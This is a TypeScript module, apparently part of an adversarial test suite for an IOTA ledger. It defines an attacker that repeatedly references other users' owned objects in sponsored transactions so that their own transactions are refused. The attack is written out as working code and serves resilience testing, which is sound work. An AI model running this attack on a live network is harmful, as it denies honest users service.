import { IotaClient } from '@iota/iota-sdk/client';
import { Ed25519Keypair } from '@iota/iota-sdk/keypairs/ed25519';
import {
  CLOCK,
  moveCall,
  ownedObject,
  type ObjectRef,
  receivedObject,
} from '../../../support/raw-transaction.js';
import type { Attacker } from '../attacker.js';

/** Names the newest versions of honest users’ objects as inputs of the attacker’s transactions. */
export const lockObjectsOfOthers: Attacker = {
  name: 'lock-objects-of-others',
  aim: 'get other users’ transactions refused because their objects are in flight',
  async run({ ledgerUrl, victims }, client) {
    const ledger = new IotaClient({ url: ledgerUrl });
    const user = new Ed25519Keypair();
    let turn = 0;
    await client.repeat(250, async () => {
      const owner = victims[turn++ % victims.length]!;
      const owned = await ledger.getOwnedObjects({ owner, limit: 20 });
      const refs = owned.data.flatMap(({ data }) => (data ? [data as ObjectRef] : []));
      if (refs.length === 0) return;
      const received = turn % 3 !== 0;
      const objects = refs.map((ref) => (received ? receivedObject(ref) : ownedObject(ref)));
      const commands = [moveCall('0x2::clock::timestamp_ms', [0])];
      await client.sponsor(user, { inputs: [CLOCK, ...objects], commands });
    });
  },
};
